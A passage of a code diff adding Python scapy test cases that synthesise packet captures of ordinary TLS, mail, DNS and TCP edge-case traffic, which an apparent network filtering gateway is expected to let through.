+        ext(0x0033, struct.pack("!H", len(shares)) + shares),
+        ext(0x0017, b""),                                              # extended_master_secret
+        ext(0x002B, b"\x06" + struct.pack("!3H", grease_v, 0x0304, 0x0303)),
+        ext(0x000D, struct.pack("!H", len(sigs)) + sigs),
+        ext(0x44CD, b"\x00\x03\x02h2"),                                # application_settings (ALPS)
+        ext(0xFF01, b"\x00"),                                          # renegotiation_info
+        ext(0x0005, b"\x01\x00\x00\x00\x00"),                          # status_request
+        ext(0x0010, struct.pack("!H", len(alpn)) + alpn),
+        ext(0x000B, b"\x01\x00"),                                      # ec_point_formats
+    ]
+    if ech:
+        exts.append(ext(0xFE0D, ech_body))
+    exts.append(ext(grease_e2, b"\x00"))
+    eb = b"".join(exts)
+    body = (b"\x03\x03" + prand(seed + "r", 32) + b"\x20" + prand(seed + "s", 32)
+            + struct.pack("!H", len(ciphers)) + ciphers + b"\x01\x00" + struct.pack("!H", len(eb)) + eb)
+    return record(22, b"\x01" + struct.pack("!I", len(body))[1:] + body)
+
+
+@case
+def case_chrome_pq_ok(n):
+    """Chrome (131+), Edge and Firefox (132+) send an X25519MLKEM768 key share by
+    default: a ClientHello of about 1.8 KB, in two segments (1448 + the rest), with
+    GREASE and a GREASE ECH extension. Every current browser session looks so."""
+    cap = Capture()
+    h = rt25_chrome_hello(n)
+    assert 1448 < len(h) < 2896
+    t = Rt25Tcp(cap, S1, 52010, E2M, 443, rtt_us=20000)
+    t.cseq, t.sseq = 52010, 81010
+    t.handshake()
+    t.raw(True, "A", h[:1448])
+    t.raw(True, "PA", h[1448:], seq=t.cseq + 1448)
+    t.cseq += len(h)
+    t.ack(False)
+    t.data(False, server_hello_flight(n))
+    t.data(True, CCS + tls_appdata(n + "fin", 53))
+    t.data(True, marked_record(passm(n), n + "req", 300))
+    t.data(False, tls_appdata(n + "resp", 900))
+    t.close()
+    return cap, {"pass": [passm(n)]}
+
+
+@case
+def case_ecn_ok(n):
+    """ECN (RFC 3168), on by default for outgoing connections on macOS and iOS
+    (since 10.13/11) and offered back by Linux and Windows servers: a SYN with ECE
+    and CWR, a SYN-ACK with ECE, data in ECT(0) packets, a router marks one of the
+    server's segments CE, the client's ACKs echo ECE, the server's next segment
+    carries CWR. macOS SYN options end with EOL."""
+    cap = Capture()
+    t = Rt25Tcp(cap, S1, 52011, E2M, 443, rtt_us=20000, ipkw_c={"tos": 2}, ipkw_s={"tos": 2})
+    t.cseq, t.sseq = 52011, 81011
+    t.tsc = {True: 3000000, False: 4000000}
+    syn = [("MSS", 1460), ("NOP", None), ("WScale", 6), ("NOP", None), ("NOP", None),
+           ("Timestamp", (3000000, 0)), ("SAckOK", b""), ("EOL", None)]
+    t.tsc[True] += 1
+    t.raw(True, "SEC", options=syn, ipkw={"tos": 0})
+    t.cseq += 1
+    t.tsc[False] += 1
+    t.raw(False, "SAE", options=[("MSS", 1460), ("SAckOK", b""), ("Timestamp", (4000000, 3000000)),
+                                 ("NOP", None), ("WScale", 7)], ipkw={"tos": 0})
+    t.sseq += 1
+    t.raw(True, "A", ipkw={"tos": 0})
+    t.data(True, hello(n))
+    t.data(False, server_hello_flight(n))
+    t.data(True, CCS + tls_appdata(n + "fin", 53))
+    t.data(True, tls_appdata(n + "req", 200))
+    resp = tls_appdata(n + "resp", 3000)
+    base = t.sseq
+    t.raw(False, "A", resp[:1448], seq=base)
+    t.raw(False, "A", resp[1448:2896], seq=base + 1448, ipkw={"tos": 3})   # CE
+    t.raw(False, "PA", resp[2896:], seq=base + 2896)
+    t.sseq = base + len(resp)
+    t.raw(True, "AE", ack=base + 2896)
+    t.raw(True, "AE")
+    rec = marked_record(passm(n) + b"srv", n + "more", 400)
+    t.raw(False, "PAC", rec)
+    t.sseq += len(rec)
+    t.raw(True, "A")
+    t.data(True, marked_record(passm(n), n + "req2", 200))
+    t.close()
+    return cap, {"pass": [passm(n), passm(n) + b"srv"]}
+
+
+@case
+def case_ack_in_hello_ok(n):
+    """The handshake's third ACK is lost before us (or never sent on its own: a
+    client that writes at once), so the first segment after the SYN-ACK is the
+    ClientHello, which carries the ACK. The server's stack takes it (RFC 9293 3.10.7.4)."""
+    cap = Capture()
+    t = Rt25Tcp(cap, S1, 52012, E2M, 443, rtt_us=20000)
+    t.cseq, t.sseq = 52012, 81012
+    t.raw(True, "S", options=Tcp.SYN_OPTS)
+    t.cseq += 1
+    t.raw(False, "SA", options=Tcp.SYN_OPTS)
+    t.sseq += 1
+    t.data(True, hello(n))
+    t.data(False, server_hello_flight(n))
+    t.data(True, CCS + tls_appdata(n + "fin", 53))
+    t.data(True, marked_record(passm(n), n + "req", 200))
+    t.data(False, tls_appdata(n + "resp", 500))
+    t.close()
+    return cap, {"pass": [passm(n)]}
+
+
+@case
+def case_synopts_ok(n):
+    """Honest SYN options a strict reader might refuse: a TCP Fast Open cookie
+    request (kind 34, no data: Linux with TCP_FASTOPEN_CONNECT, curl --tcp-fastopen,
+    Chrome on Android), an MPTCP MP_CAPABLE (kind 30: iOS, Linux mptcpd), which the
+    server ignores (its SYN-ACK carries neither), so both fall back to plain TCP."""
+    cap = Capture()
+    t = Rt25Tcp(cap, S1, 52013, E2M, 443, rtt_us=20000)
+    t.cseq, t.sseq = 52013, 81013
+    syn = [("MSS", 1460), ("SAckOK", b""), ("NOP", None), ("WScale", 7), ("TFO", b""),
+           (30, b"\x01\x81" + prand(n + "mpk", 8))]
+    t.handshake(syn_opts=syn)
+    t.data(True, hello(n))
+    t.data(False, server_hello_flight(n))
+    t.data(True, CCS + tls_appdata(n + "fin", 53))
+    t.data(True, marked_record(passm(n), n + "req", 200))
+    t.data(False, tls_appdata(n + "resp", 500))
+    t.close()
+    return cap, {"pass": [passm(n)]}
+
+
+@case
+def case_smtps_sni_ok(n):
+    """SMTPS on 465 (implicit TLS, RFC 8314) as Thunderbird and Outlook send it: a
+    ClientHello for mail.customs.example, the handshake, records."""
+    cap = Capture()
+    tls_flow(cap, S1, 52016, MAIL, 52016, n, send_whole(hello(n, sni="mail.customs.example")),
+             passm(n), sport=465)
+    return cap, {"pass": [passm(n)]}
+
+
+@case
+def case_smtps_nosni_ok(n):
+    """SMTPS on 465 from an MTA: Postfix (smtp_tls_wrappermode, smtp_tls_servername
+    empty by default) and Exim (tls_sni unset) send no server_name at all."""
+    cap = Capture()
+    tls_flow(cap, S1, 52017, MAIL, 52017, n, send_whole(hello(n, sni_raw=b"")), passm(n), sport=465)
+    return cap, {"pass": [passm(n)]}
+
+
+@case
+def case_imaps_ok(n):
+    """IMAPS on 993 (Thunderbird, Outlook, iOS Mail): a ClientHello for mail.customs.example."""
+    cap = Capture()
+    tls_flow(cap, S1, 52018, MAIL, 52018, n, send_whole(hello(n, sni="mail.customs.example")),
+             passm(n), sport=993)
+    return cap, {"pass": [passm(n)]}
+
+
+@case
+def case_starttls_nosni_ok(n):
+    """STARTTLS on 587 from Postfix as a client: its ClientHello has no server_name
+    (smtp_tls_servername is empty by default; Exim's tls_sni likewise)."""
+    def then(t):
+        t.data(True, hello(n, sni_raw=b""))
+        t.data(False, server_hello_flight(n))
+        t.data(True, CCS + tls_appdata(n + "fin", 53))
+        t.data(True, marked_record(passm(n), n + "req", 400))
+        t.data(False, tls_appdata(n + "resp", 60))
+    return starttls(n, 52019, 52019, then), {"pass": [passm(n)]}
+
+
+@case
+def case_smtp_slowgreet_ok(n):
+    """The relay greets 12 s after the handshake: its reverse DNS lookup of the client
+    timed out (Postfix smtpd, Exim and Sendmail look the client up before the banner;
+    Sendmail's greet_pause and tarpits add seconds more). Then an ordinary session."""
+    cap = Capture()
+    t = ETcp(cap, S1, 52020, MAIL, 25, isn=52020, rtt_us=4000)
+    t.handshake()
+    cap.idle(12)
+    smtp_start(t, False)
+    t.data(True, b"MAIL FROM:<declarant@e2m.customs.example>\r\n")
+    t.data(False, b"250 2.1.0 Ok\r\n")
+    t.data(True, b"RCPT TO:<office@customs.example>\r\n")
+    t.data(False, b"250 2.1.5 Ok\r\n")
+    t.data(True, b"DATA\r\n")
+    t.data(False, b"354 End data with <CR><LF>.<CR><LF>\r\n")
+    t.data(True, b"Subject: declaration\r\n\r\n" + passm(n) + b"\r\n.\r\n")
+    t.data(False, b"250 2.0.0 Ok: queued\r\n")
+    t.data(True, b"QUIT\r\n")
+    t.data(False, b"221 2.0.0 Bye\r\n")
+    t.close()
+    return cap, {"pass": [passm(n)]}
+
+
+@case
+def case_dns_glibc_ok(n):
+    """glibc's getaddrinfo (every Linux client): the A and AAAA queries for the e2m
+    name go out back to back from one socket (one 5-tuple), and the answers come in
+    the other order. The A answer is a new address for the name (outside the /28); a
+    session there follows."""
+    cap = Capture()
+    qa = bytes(DNS(id=0x5101, rd=1, qd=DNSQR(qname=E2M_NAME, qtype="A")))
+    q6 = bytes(DNS(id=0x5102, rd=1, qd=DNSQR(qname=E2M_NAME, qtype="AAAA")))
+    a6 = bytes(DNS(id=0x5102, qr=1, rd=1, ra=1, qd=DNSQR(qname=E2M_NAME, qtype="AAAA"),
+                   an=DNSRR(rrname=E2M_NAME, type="AAAA", ttl=300, rdata=E2M6)))
+    aa = forged_dns_answer(0x5101, E2M_NAME, "198.51.100.201")
+    udp(cap, S1, 52021, RESOLVER, 53, qa)
+    udp(cap, S1, 52021, RESOLVER, 53, q6, gap=50)
+    udp(cap, RESOLVER, 53, S1, 52021, a6, gap=2000)
+    udp(cap, RESOLVER, 53, S1, 52021, aa, gap=100)
+    cap.idle(0.01)
+    tls_flow(cap, S1, 52022, "198.51.100.201", 52022, n, send_whole(hello(n)), passm(n))
+    return cap, {"pass": [passm(n), qa, q6, a6, aa]}
+
+
+@case
+def case_dns_tc_tcp_ok(n):
+    """A large answer (a TXT record set, DKIM keys): over UDP the resolver answers
+    with TC set and no records; the client (glibc, Windows) asks again over TCP and
+    gets a 3000-byte answer in three segments."""
+    cap = Capture()
+    name = "selector1._domainkey.customs.example"
+    q = bytes(DNS(id=0x5103, rd=1, qd=DNSQR(qname=name, qtype="TXT")))
+    tc = bytes(DNS(id=0x5103, qr=1, rd=1, ra=1, tc=1, qd=DNSQR(qname=name, qtype="TXT")))
+    udp(cap, S1, 52023, RESOLVER, 53, q)
+    udp(cap, RESOLVER, 53, S1, 52023, tc, gap=2000)
+    txts = [DNSRR(rrname=name, type="TXT", ttl=300, rdata=[prand(n + "t%d" % i, 200).hex()[:250]])
+            for i in range(11)]
+    an = txts[0]
+    for r in txts[1:]:
+        an = an / r
+    a = bytes(DNS(id=0x5104, qr=1, rd=1, ra=1, qd=DNSQR(qname=name, qtype="TXT"), an=an))
+    assert len(a) > 2896
+    t = ETcp(cap, S1, 52024, RESOLVER, 53, isn=52024, rtt_us=4000)
+    t.handshake()
+    q2 = bytes(DNS(id=0x5104, rd=1, qd=DNSQR(qname=name, qtype="TXT")))
+    t.data(True, struct.pack("!H", len(q2)) + q2)
+    msg = struct.pack("!H", len(a)) + a
+    for i in range(0, len(msg), 1448):
+        t.send(False, msg[i:i + 1448])
+    t.ack(True)
+    t.close()
+    return cap, {"pass": [q, tc, q2, a[-200:]]}
+
+
+@case
+def case_dns_frag_ok(n):
+    """An EDNS0 answer of 2600 bytes over UDP (a resolver with edns-udp-size 4096,
+    BIND's old default; DNSSEC-signed sets), IP-fragmented by the resolver in two."""
+    cap = Capture()
+    name = "_dmarc.customs.example"
+    opt = DNSRROPT(rclass=4096)
+    q = bytes(DNS(id=0x5105, rd=1, qd=DNSQR(qname=name, qtype="TXT"), ar=opt))
+    txts = [DNSRR(rrname=name, type="TXT", ttl=300, rdata=[prand(n + "f%d" % i, 200).hex()[:240]])
+            for i in range(10)]
+    an = txts[0]
+    for r in txts[1:]:
+        an = an / r
+    a = bytes(DNS(id=0x5105, qr=1, rd=1, ra=1, qd=DNSQR(qname=name, qtype="TXT"), an=an, ar=opt))
+    assert 1500 < len(a) < 2900
+    udp(cap, S1, 52025, RESOLVER, 53, q)
+    pkt = IP(src=RESOLVER, dst=S1, id=0x5105) / UDP(sport=53, dport=52025) / Raw(a)
+    gap = 2000
+    for f in fragments(pkt, [1480], ident=0x5105):
+        cap.emit(l2(RESOLVER, S1) / f, gap)
+        gap = 50
+    return cap, {"pass": [q, a[-200:]]}
+
+
+@case
+def case_jumbo_ok(n):
+    """A data-centre path with a 9000-byte MTU (jumbo frames, MSS 8960): 16 KiB
+    records arrive in 8948-byte segments both ways."""
+    cap = Capture()
+    t = Rt25Tcp(cap, S1, 52026, E2M, 443, rtt_us=20000)
+    t.cseq, t.sseq = 52026, 81026
+    opts = [("MSS", 8960), ("SAckOK", b""), ("NOP", None), ("WScale", 7)]
+    t.handshake(syn_opts=opts, synack_opts=opts)
+    t.data(True, hello(n))
+    t.data(False, server_hello_flight(n))
+    t.data(True, CCS + tls_appdata(n + "fin", 53))
+    up = marked_record(passm(n), n + "up", 16000) + tls_appdata(n + "up2", 8000)
+    rt25_bulk(t, True, up, mss=8948)
+    down = tls_appdata(n + "d1", 16384) + marked_record(passm(n) + b"dn", n + "d2", 16000)
+    rt25_bulk(t, False, down, mss=8948)
+    t.close()
+    return cap, {"pass": [passm(n), passm(n) + b"dn"]}
+
+
+# --- rt25, second batch
+
+@case
+def case_srv_rst_race_ok(n):
+    """The keep-alive race: the server (IIS, an L4 load balancer's idle timeout, nginx
+    reset_timedout_connection) resets an idle kept-alive connection just as the client
+    (a Java/.NET pool) sends its next request on it; the request, in flight, arrives
+    after the RST (the server answers it with a RST; the client retries elsewhere)."""
+    cap = Capture()
+    t = rt25_session(cap, 52030, 52030, 81030, n)
+    t.data(True, marked_record(passm(n), n + "req", 200))
+    t.data(False, tls_appdata(n + "resp", 600))
+    cap.idle(60)
+    t.raw(False, "RA")
+    t.send(True, tls_appdata(n + "req2", 300), gap=300)
+    t.raw(False, "R", seq=t.sseq)
+    return cap, {"pass": [passm(n)]}
+
+
+@case
+def case_he_loser_rst_ok(n):
+    """Happy Eyeballs (RFC 8305; Chrome, Firefox, Safari, curl, Go): the client opens
+    IPv6 and IPv4 connections to the e2m server at once; IPv6 wins and carries the
+    session, the IPv4 loser is aborted with a RST right after its handshake, without a
+    byte. The loser is the flow scored here; it carries nothing to refuse."""
+    cap = Capture()
+    t6 = Rt25Tcp(cap, S6, 52031, E2M6, 443, rtt_us=20000)
+    t6.cseq, t6.sseq = 52031, 81031
+    t4 = Rt25Tcp(cap, S1, 52032, E2M, 443, rtt_us=20000)
+    t4.cseq, t4.sseq = 52032, 81032
+    t6.raw(True, "S", options=Tcp.SYN_OPTS)
+    t6.cseq += 1
+    t4.raw(True, "S", options=Tcp.SYN_OPTS, gap=250)
+    t4.cseq += 1
+    t6.raw(False, "SA", options=Tcp.SYN_OPTS)
+    t6.sseq += 1
+    t6.raw(True, "A", gap=50)
+    t4.raw(False, "SA", options=Tcp.SYN_OPTS, gap=300)
+    t4.sseq += 1
+    t4.raw(True, "A", gap=50)
+    t6.data(True, hello(n))
+    t4.raw(True, "RA", gap=100)
+    t6.data(False, server_hello_flight(n))
+    t6.data(True, CCS + tls_appdata(n + "fin", 53))
+    t6.data(True, marked_record(passm(n), n + "req", 200))
+    t6.data(False, tls_appdata(n + "resp", 500))
+    t6.close()
+    return cap, {"pass": [passm(n)]}
+
+
+@case
+def case_pool_unused_ok(n):
+    """A client opens a spare connection ahead of need (Chrome's and Firefox's
+    speculative/pre-connects, a Java or .NET pool's minimum idle connections, a
+    monitoring TCP check), never uses it, and closes it with FIN after a few seconds.
+    A second connection carries the session. The unused one is scored."""
+    cap = Capture()
+    t = Rt25Tcp(cap, S1, 52033, E2M, 443, rtt_us=20000)
+    t.cseq, t.sseq = 52033, 81033
+    t.handshake()
+    tls_flow(cap, S1, 52034, E2M, 52034, n, send_whole(hello(n)), passm(n))
+    cap.idle(3)
+    t.close()
+    return cap, {"pass": [passm(n)]}
+
+
+@case
+def case_hello_late_ok(n):
+    """The ClientHello comes 11 s after the TCP handshake: a connection opened ahead
+    (Firefox's speculative connect, a Java SSLSocket whose handshake starts at the
+    first write, a pool that connects then hands the socket out later)."""
+    cap = Capture()
+    t = Rt25Tcp(cap, S1, 52035, E2M, 443, rtt_us=20000)
+    t.cseq, t.sseq = 52035, 81035
+    t.handshake()
+    cap.idle(11)
+    t.data(True, hello(n))
+    t.data(False, server_hello_flight(n))
+    t.data(True, CCS + tls_appdata(n + "fin", 53))
+    t.data(True, marked_record(passm(n), n + "req", 200))
+    t.data(False, tls_appdata(n + "resp", 500))
+    t.close()
+    return cap, {"pass": [passm(n)]}
+
+
+@open_case
+def case_gw_failover_ok(n):
+    """The zone's default gateway is an active/standby pair that moves its address by
+    gratuitous ARP (keepalived without use_vmac, Windows/Linux clusters, cloud VIPs):
+    after a failover the client's frames go to the standby's own MAC. An open e2m
+    session goes on through the new gateway."""
+    cap = Capture()
+    t = rt25_session(cap, 52036, 52036, 81036, n)
+    t.data(True, tls_appdata(n + "a", 200))
+    t.data(False, tls_appdata(n + "b", 500))
+    cap.idle(2)
+    newgw = "02:00:00:00:fe:02"
+    t.mac_c = newgw
+    rec = marked_record(passm(n), n + "c", 200)
+    cap.emit(Ether(src=host_mac_rt25(S1), dst=newgw) / IP(src=S1, dst=E2M)
+             / TCP(sport=52036, dport=443, flags="PA", seq=t.cseq & M32, ack=t.sseq & M32, window=64240)
+             / Raw(rec), 20000)
+    t.cseq += len(rec)
+    t.raw(False, "A")
+    t.data(False, marked_record(passm(n) + b"srv", n + "d", 500))
+    fin = Ether(src=host_mac_rt25(S1), dst=newgw) / IP(src=S1, dst=E2M) / TCP(
+        sport=52036, dport=443, flags="A", seq=t.cseq & M32, ack=t.sseq & M32, window=64240)
+    cap.emit(fin, 10000)
+    return cap, {"pass": [passm(n), passm(n) + b"srv"]}
+
+
+def host_mac_rt25(addr):
+    import hashlib
+    h = hashlib.sha256(addr.encode()).digest()
+    return "02:%02x:%02x:%02x:%02x:%02x" % tuple(h[:5])
+
+
+@case
+def case_icmp_ptb_ok(n):
+    """Path MTU discovery (RFC 1191) toward the e2m server: a link past us has an MTU
+    of 1400 (a tunnel, PPPoE); its router drops the client's two full-size DF
+    segments and sends 'fragmentation needed' back for each, quoting 548 bytes (RFC
+    1812); the client sends the same bytes again in 1348-byte segments."""
+    cap = Capture()
+    t = rt25_session(cap, 52037, 52037, 81037, n)
+    data = tls_appdata(n + "r1", 995) + marked_record(passm(n), n + "r2", 1995) + tls_appdata(n + "r3", 200)
+    base = t.cseq
+    segs = [(0, 1460), (1460, 2920), (2920, len(data))]
+    for a, b in segs:
+        t.raw(True, "PA" if b == len(data) else "A", data[a:b], seq=base + a, ipkw={"flags": "DF"}, gap=100)
+    for a, b in segs[:2]:
+        q = bytes(IP(src=S1, dst=E2M, flags="DF") / TCP(sport=52037, dport=443, flags="A", seq=(base + a) & M32,
+                                                        ack=t.sseq & M32, window=64240) / Raw(data[a:b]))[:548]
+        icmp_err(cap, "203.0.113.1", S1, q, rest=1400, gap=3000)
+    t.raw(False, "A", ack=base, options=[("NOP", None), ("NOP", None), ("SAck", ((base + 2920) & M32, (base + len(data)) & M32))])
+    for a in range(0, 2920, 1348):
+        b = min(a + 1348, 2920)
+        t.raw(True, "A", data[a:b], seq=base + a, ipkw={"flags": "DF"}, gap=200)
+    t.cseq = base + len(data)
+    t.raw(False, "A")
+    t.data(False, tls_appdata(n + "resp", 300))
+    t.close()
+    return cap, {"pass": [passm(n)]}
+
+
+@case
+def case_icmp6_ptb_ok(n):
+    """The same over IPv6 (RFC 8201): an outside router's Packet Too Big (MTU 1280,
+    quoting 1232 bytes, RFC 4443 2.4) for the client's 1440-byte segment, which is sent
+    again in 1220-byte segments."""
+    from scapy.layers.inet6 import ICMPv6PacketTooBig
+    cap = Capture()
+    t = rt25_session(cap, 52038, 52038, 81038, n, c=S6, s=E2M6)
+    data = marked_record(passm(n), n + "r1", 1300) + tls_appdata(n + "r2", 700)
+    base = t.cseq
+    t.raw(True, "A", data[:1440], seq=base, gap=100)
+    t.raw(True, "PA", data[1440:], seq=base + 1440, gap=100)
+    q = bytes(IPv6(src=S6, dst=E2M6) / TCP(sport=52038, dport=443, flags="A", seq=base & M32,
+                                           ack=t.sseq & M32, window=64240) / Raw(data[:1440]))[:1232]
+    cap.emit(l2("2001:db8:ffff::1", S6) / IPv6(src="2001:db8:ffff::1", dst=S6) / ICMPv6PacketTooBig(mtu=1280)
+             / Raw(q), 3000)
+    t.raw(False, "A", ack=base, options=[("NOP", None), ("NOP", None), ("SAck", ((base + 1440) & M32, (base + len(data)) & M32))])
+    for a in range(0, 1440, 1220):
+        b = min(a + 1220, 1440)
+        t.raw(True, "A", data[a:b], seq=base + a, gap=200)
+    t.cseq = base + len(data)
+    t.raw(False, "A")
+    t.data(False, tls_appdata(n + "resp", 300))
+    t.close()
+    return cap, {"pass": [passm(n)]}
+
+
+@case
+def case_exch_bdat_ok(n):
+    """Exchange (and Exim with CHUNKING) as a client: after EHLO, MAIL FROM, RCPT TO
+    and BDAT n LAST with the message's bytes pipelined in one segment (RFC 3030 4.2
+    lets BDAT be pipelined; RFC 2920)."""
+    cap = Capture()
+    t = ETcp(cap, S1, 52039, MAIL, 25, isn=52039, rtt_us=4000)
+    t.handshake()
+    t.data(False, b"220 mail.customs.example Microsoft ESMTP MAIL Service ready\r\n")
+    t.data(True, b"EHLO ws-10.e2m.customs.example\r\n")
+    t.data(False, b"250-mail.customs.example Hello [10.10.1.10]\r\n250-SIZE 37748736\r\n250-PIPELINING\r\n"
+                  b"250-DSN\r\n250-ENHANCEDSTATUSCODES\r\n250-8BITMIME\r\n250-BINARYMIME\r\n"
+                  b"250-CHUNKING\r\n250 XRDST\r\n")
+    msg = (b"From: <declarant@e2m.customs.example>\r\nTo: <office@customs.example>\r\n"
+           b"Subject: chunked\r\nMIME-Version: 1.0\r\n\r\n" + passm(n) + b"\r\n" + prand(n, 200).hex().encode() + b"\r\n")
+    t.data(True, b"MAIL FROM:<declarant@e2m.customs.example> SIZE=%d BODY=BINARYMIME\r\n" % len(msg)
+           + b"RCPT TO:<office@customs.example>\r\n" + b"BDAT %d LAST\r\n" % len(msg) + msg)
+    t.data(False, b"250 2.1.0 Sender OK\r\n250 2.1.5 Recipient OK\r\n250 2.6.0 Queued mail for delivery\r\n")
+    t.data(True, b"QUIT\r\n")
+    t.data(False, b"221 2.0.0 Service closing transmission channel\r\n")
+    t.close()
+    return cap, {"pass": [passm(n)]}
+
+
+@case
+def case_imaps_nosni_ok(n):
+    """IMAPS on 993 without server_name (fetchmail, older Outlook/Java Mail, scripts
+    with Python's imaplib given an address)."""
+    cap = Capture()
+    tls_flow(cap, S1, 52040, MAIL, 52040, n, send_whole(hello(n, sni_raw=b"")), passm(n), sport=993)
+    return cap, {"pass": [passm(n)]}
+
+
+@case
+def case_pops_ok(n):
+    """POP3S on 995 with SNI mail.customs.example."""
+    cap = Capture()
+    tls_flow(cap, S1, 52041, MAIL, 52041, n, send_whole(hello(n, sni="mail.customs.example")),
+             passm(n), sport=995)
+    return cap, {"pass": [passm(n)]}
+
+
+@open_case
+def case_dns_update_ok(n):
+    """A Windows domain member registers its address with the zone's DNS server (DNS
+    dynamic update, RFC 2136, opcode 5: at boot, every 24 h, on an address change):
+    an SOA query first, then the UPDATE (zone, a prerequisite, the A record), and the
+    server's NOERROR."""
+    cap = Capture()
+    zone = "customs.example"
+    host = "ws-10.e2m.customs.example"
+    soa_q = bytes(DNS(id=0x5142, rd=0, qd=DNSQR(qname=host, qtype="SOA")))
+    soa_a = bytes(DNS(id=0x5142, qr=1, aa=1, qd=DNSQR(qname=host, qtype="SOA"),
+                      ns=DNSRR(rrname=zone, type="SOA", ttl=3600, rdata=b"\x00" * 22)))
+    body = (DNSQR(qname=zone, qtype="SOA"))
+    upd = bytes(DNS(id=0x5143, opcode=5, qd=body,
+                    an=DNSRR(rrname=host, type="CNAME", rclass=254, ttl=0, rdata=b""),
+                    ns=DNSRR(rrname=host, type="A", ttl=1200, rdata=S1)))
+    upd_a = bytes(DNS(id=0x5143, qr=1, opcode=5, qd=body))
+    udp(cap, S1, 52042, RESOLVER, 53, soa_q)
+    udp(cap, RESOLVER, 53, S1, 52042, soa_a, gap=2000)
+    udp(cap, S1, 52042, RESOLVER, 53, upd)
+    udp(cap, RESOLVER, 53, S1, 52042, upd_a, gap=2000)
+    return cap, {"pass": [soa_q, soa_a, upd, upd_a]}
+
+
+@open_case
+def case_dns_ttl_java_ok(n):
+    """The e2m name's answer has a 20 s TTL (a cloud load balancer's: Akamai 20 s,
+    AWS ELB 60 s); a Java client keeps resolved addresses 30 s whatever the TTL
+    (networkaddress.cache.ttl's default), and opens its next connection at 25 s
+    without asking again."""
+    cap = Capture()
+    dns_learn_flow(cap, 52043, 0x5143, [forged_dns_answer(0x5143, E2M_NAME, "198.51.100.202", ttl=20)])
+    cap.idle(0.01)
+    tls_flow(cap, S1, 52044, "198.51.100.202", 52044, n + "a", send_whole(hello(n + "a")), passm(n) + b"a")
+    cap.idle(25)
+    tls_flow(cap, S1, 52045, "198.51.100.202", 52045, n, send_whole(hello(n)), passm(n))
+    return cap, {"pass": [passm(n) + b"a", passm(n)]}
+
+
+@case
+def case_dns_ttl_long_ok(n):
+    """A session opened to an address learned with a 20 s TTL lasts longer than the TTL
+    (an HTTP/2 connection, a long download): its records go on at 40 s."""
+    cap = Capture()
+    dns_learn_flow(cap, 52046, 0x5146, [forged_dns_answer(0x5146, E2M_NAME, "198.51.100.203", ttl=20)])
+    cap.idle(0.01)
+    t = rt25_session(cap, 52047, 52047, 81047, n, s="198.51.100.203")
+    cap.idle(40)
+    t.data(True, marked_record(passm(n), n + "late", 200))
+    t.data(False, marked_record(passm(n) + b"srv", n + "late2", 500))
+    t.close()
+    return cap, {"pass": [passm(n), passm(n) + b"srv"]}
+
+
+# --- rt25, third batch
+
+class Rt25PadCap(Capture):
+    """A capture whose frames under 60 bytes are padded to the Ethernet minimum, as
+    every NIC puts them on the wire (IEEE 802.3: 64 bytes with the FCS). fill: the
+    padding's bytes (zeros, or what an old driver leaves in its buffer)."""
+
+    def __init__(self, fill=b"\x00"):
+        super().__init__()
+        self.fill = fill
+
+    def emit(self, pkt, gap_us=1000):
+        raw = bytes(pkt)
+        if len(raw) < 60:
+            pad = (self.fill * 60)[:60 - len(raw)]
+            pkt = Ether(raw + pad)
+        super().emit(pkt, gap_us)
+
+
+def rt25_pad_session(cap, cport, n):
+    t = rt25_session(cap, cport, cport, cport + 30000, n)
+    # a record whose header comes alone in a 5-byte segment (a 59-byte frame), then its body
+    rec = marked_record(passm(n), n + "r", 300)
+    t.send(True, rec[:5])
+    t.send(True, rec[5:])
+    t.ack(False)
+    t.raw(True, "A", b"\x00", seq=t.cseq - 1, gap=200000)   # a Windows keep-alive (55 bytes)
+    t.raw(False, "A")
+    t.data(False, marked_record(passm(n) + b"srv", n + "s", 400))
+    t.data(True, record(21, prand(n + "cn", 19), 0x0303))
+    t.close()
+
+
+@case
+def case_eth_pad_ok(n):
+    """Every frame under 60 bytes (bare ACKs, the handshake, a 1-byte keep-alive, a
+    segment holding only a 5-byte record header) carries the Ethernet padding that
+    NICs add on the wire; the IPv4 total length says where the datagram ends."""
+    cap = Rt25PadCap()
+    rt25_pad_session(cap, 52050, n)
+    return cap, {"pass": [passm(n), passm(n) + b"srv"]}
+
+
+@case
+def case_eth_pad_junk_ok(n):
+    """The same padding filled with non-zero bytes (drivers that pad from a stale
+    buffer, CVE-2003-0001 'Etherleak', still seen in embedded NICs and some switches)."""
+    cap = Rt25PadCap(fill=b"\xa5\x5a\x13")
+    rt25_pad_session(cap, 52051, n)
+    return cap, {"pass": [passm(n), passm(n) + b"srv"]}
+
+
+@case
+def case_syn_retry_ok(n):
+    """The server's SYN backlog is full (or the path loses the SYNs): Linux sends its
+    SYN again at 1, 3, 7 and 15 s (tcp_syn_retries, RTO doubling), the last is
+    answered; the ClientHello and the session follow at once."""
+    cap = Capture()
+    t = Rt25Tcp(cap, S1, 52052, E2M, 443, rtt_us=20000)
+    t.cseq, t.sseq = 52052, 81052
+    gap = None
+    for d in (0, 1, 2, 4, 8):
+        t.raw(True, "S", options=Tcp.SYN_OPTS, gap=gap)
+        gap = d * 1000000 if d else None
+        gap = {0: 1000000, 1: 2000000, 2: 4000000, 4: 8000000, 8: 1}[d]
+    t.cseq += 1
+    t.raw(False, "SA", options=Tcp.SYN_OPTS)
+    t.sseq += 1
+    t.raw(True, "A")
+    t.data(True, hello(n))
+    t.data(False, server_hello_flight(n))
+    t.data(True, CCS + tls_appdata(n + "fin", 53))
+    t.data(True, marked_record(passm(n), n + "req", 200))
+    t.data(False, tls_appdata(n + "resp", 500))
+    t.close()
+    return cap, {"pass": [passm(n)]}
+
+
+@case
+def case_srv_slow_ok(n):
+    """The server answers the ClientHello after 11 s (an overloaded server, a TLS
+    terminator waiting on its HSM or on an OCSP fetch for stapling); the session then
+    goes on normally."""
+    cap = Capture()
+    t = Rt25Tcp(cap, S1, 52053, E2M, 443, rtt_us=20000)
+    t.cseq, t.sseq = 52053, 81053
+    t.handshake()
+    t.data(True, hello(n))
+    cap.idle(11)
+    t.data(False, server_hello_flight(n))
+    t.data(True, CCS + tls_appdata(n + "fin", 53))
+    t.data(True, marked_record(passm(n), n + "req", 200))
+    t.data(False, tls_appdata(n + "resp", 500))
+    t.close()
+    return cap, {"pass": [passm(n)]}
+
+
+@case
+def case_stream_small_ok(n):
+    """A streaming API (gRPC server streaming, server-sent events, market data) with
+    TCP_NODELAY: the server writes 300 small messages, each its own TLS record and
+    segment, within one round trip of a 100 ms path; the client's ACKs come a round
+    trip later. The capture follows what the client can get through aduana (256
+    records; the rest after the server's retransmission timeout)."""
+    cap = Capture()
